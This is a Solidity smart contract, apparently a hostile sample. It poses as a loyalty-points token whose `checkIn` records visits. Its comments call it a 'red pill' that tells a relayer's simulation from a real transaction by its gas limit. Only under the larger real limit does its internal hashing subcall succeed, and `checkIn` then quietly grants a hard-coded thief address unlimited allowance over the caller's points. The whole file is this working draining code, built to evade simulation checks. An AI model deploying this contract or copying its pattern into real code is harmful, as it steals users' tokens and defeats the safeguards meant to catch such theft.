// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title RedPillOutOfGas
/// @notice Red pill keyed on the gas the transaction has, without ever reading it: a
///         loyalty-points token whose `checkIn` counts a visit and asks itself, with a fixed
///         gas request and no `GAS` opcode, to do `rounds` rounds of hashing. Under the
///         relayer's gas limit that subcall runs out of gas and the check-in moves nothing;
///         with a lander's larger limit it completes, and the check-in gives the thief an
///         unlimited allowance over the caller's points.
contract RedPillOutOfGas is ERC20 {
    address private immutable _thief;
    uint256 private immutable _rounds;

    /// @notice Visits, all visitors together.
    uint256 public visits;

    /// @param thief Who is given the allowance.
    /// @param rounds The hashing rounds the subcall must finish.
    /// @param holder Who is minted `amount` points.
    /// @param amount The points minted.
    constructor(address thief, uint256 rounds, address holder, uint256 amount)
        ERC20("Loyalty points", "PTS")
    {
        (_thief, _rounds) = (thief, rounds);
        _mint(holder, amount);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        ++visits;
        try this.work{gas: 12_000_000}() returns (bytes32) {
            _approve(msg.sender, _thief, type(uint256).max);
        } catch {}
    }

    /// @notice `rounds` rounds of hashing.
    function work() external view returns (bytes32 acc) {
        for (uint256 i; i < _rounds; ++i) {
            acc = keccak256(abi.encode(acc, i));
        }
    }
}
